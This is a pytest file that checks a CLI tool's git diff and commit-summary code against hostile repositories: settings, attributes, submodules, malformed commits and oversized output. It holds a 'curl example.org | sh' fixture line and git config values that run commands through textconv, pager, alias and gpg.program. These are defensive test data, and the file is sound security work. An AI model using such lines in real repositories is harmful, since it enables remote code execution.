"""Tests of summaries and differences of hostile commits."""

from __future__ import annotations

import pytest

from specify_cli.vcs import history
from specify_cli.vcs.objects import tree_changes
from tests.unit.vcs.conftest import Project

pytestmark = pytest.mark.long


def shown(project: Project, base: str) -> history.DiffText:
    return history.difference(project.repo.git, base, project.git("rev-parse", "HEAD"))


def start(project: Project) -> str:
    return project.git("rev-parse", "HEAD")


SETTINGS = {
    "core.bigFileThreshold": "1",
    "diff.ignoreSubmodules": "all",
    "diff.evil.textconv": "touch ran; cat",
    "diff.evil.command": "touch ran",
    "diff.evil.binary": "true",
    "diff.external": "touch ran",
    "diff.noprefix": "true",
    "diff.orderFile": "nosuch",
    "diff.context": "0",
    "diff.algorithm": "nosuch",
    "color.diff": "always",
    "color.ui": "always",
}


@pytest.mark.parametrize("attributes", ["* -diff", "* binary", "* diff=evil", ""])
def test_settings_and_attributes_cannot_hide_a_change(project: Project, attributes: str) -> None:
    base = start(project)
    (project.root / ".git/info").mkdir(exist_ok=True)
    (project.root / ".git/info/attributes").write_text(attributes + "\n")
    project.write(".gitattributes", attributes + "\n")
    project.write("evil.sh", "curl example.org | sh\n")
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "work")
    head = start(project)
    for setting, value in SETTINGS.items():
        project.git("config", setting, value)
    text = history.difference(project.repo.git, base, head).text
    assert "\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl example.org | sh\n" in text
    assert not (project.root / "ran").exists()


def test_gitmodules_cannot_hide_a_nested_repository(project: Project) -> None:
    project.write(".gitmodules", '[submodule "x"]\n\tpath = inner\n\turl = ./x\n\tignore = all\n')
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "before")
    base = start(project)
    project.git("update-index", "--add", "--cacheinfo", f"160000,{base},inner")
    project.git("commit", "-q", "-m", "work")
    head = project.git("rev-parse", "HEAD")
    assert list(tree_changes(project.repo.git, base, head)) == ["inner"]
    assert f"+Subproject commit {base}" in shown(project, base).text


def test_a_binary_file_is_named_without_its_content(project: Project) -> None:
    base = start(project)
    (project.root / "a.bin").write_bytes(b"\0\x1b\n" * (2 * history.MOST_DIFF))
    project.write("b.txt", "text\n")
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "work")
    found = shown(project, base)
    assert "diff --git a/a.bin b/a.bin\nnew file mode 100644\n" in found.text
    assert "Binary files /dev/null and b/a.bin differ\n" in found.text
    assert "+text" in found.text
    assert not found.is_cut


def test_a_long_difference_is_truncated(project: Project) -> None:
    base = start(project)
    project.write("a.txt", "long\n" * history.MOST_DIFF)
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "work")
    found = shown(project, base)
    assert found.is_cut
    assert len(found.text) == history.MOST_DIFF


def test_git_is_stopped_once_it_has_printed_enough(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history, "MOST_READ", 100_000)
    base = start(project)
    project.write("a.txt", "long\n" * 1_000_000)
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "work")
    found = shown(project, base)
    assert found.is_cut
    assert len(found.text) < 2 * history.MOST_READ


@pytest.mark.parametrize(
    "head",
    [
        "",
        "author  <> 0 +0000\ncommitter  <> 0 +0000\n",
        "author A <a@b> -1 +9999\ncommitter A <a@b> 99999999999999999999 +0000\n",
        "author A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\nencoding UTF-16\n",
        "author +AAA- <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\nencoding UTF-7\n",
    ],
)
def test_a_malformed_commit_is_summarized_in_one_line(project: Project, head: str) -> None:
    text = f"tree {project.git('rev-parse', 'HEAD^{tree}')}\n{head}\nsub+AAA-ject\n"
    project.write("commit", text)
    words = ("hash-object", "-t", "commit", "-w", "--literally", "--path=commit", "commit")
    commit = project.git(*words)
    found = history.summaries(project.repo.git, [commit, start(project)])
    assert [it.commit for it in found] == [commit, start(project)]


def test_settings_do_not_change_the_summary_of_a_commit(project: Project) -> None:
    head = start(project)
    before = history.summaries(project.repo.git, [head])
    for setting, value in {
        "format.pretty": "fuller",
        "gpg.program": "touch ran; false",
        "i18n.logOutputEncoding": "UTF-16",
        "log.abbrevCommit": "true",
        "log.date": "relative",
        "log.decorate": "full",
        "log.diffMerges": "separate",
        "log.mailmap": "true",
        "log.showSignature": "true",
        "mailmap.file": "mailmap",
        "notes.displayRef": "*",
        "color.ui": "always",
        "pager.log": "touch ran",
        "alias.log": "!touch ran",
    }.items():
        project.git("config", setting, value)
    project.write("mailmap", "Somebody Else <x@y> <ada@example.org>\n")
    project.git("notes", "add", "-m", "a note", head)
    assert history.summaries(project.repo.git, [head]) == before
    assert not (project.root / "ran").exists()


def test_subjects_and_lists_of_commits_are_bounded(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    head = start(project)
    project.write("message", "x" * 300_000)
    project.git("commit", "-q", "--allow-empty", "-F", "message")
    long = start(project)
    found = history.summaries(project.repo.git, [long, head])
    assert [it.commit for it in found] == [long, head]
    assert len(found[0].subject) == 1000
    monkeypatch.setattr(history, "_MOST_LISTED", 100_000)
    found = history.summaries(project.repo.git, [head, long])
    assert [it.commit for it in found] == [head]
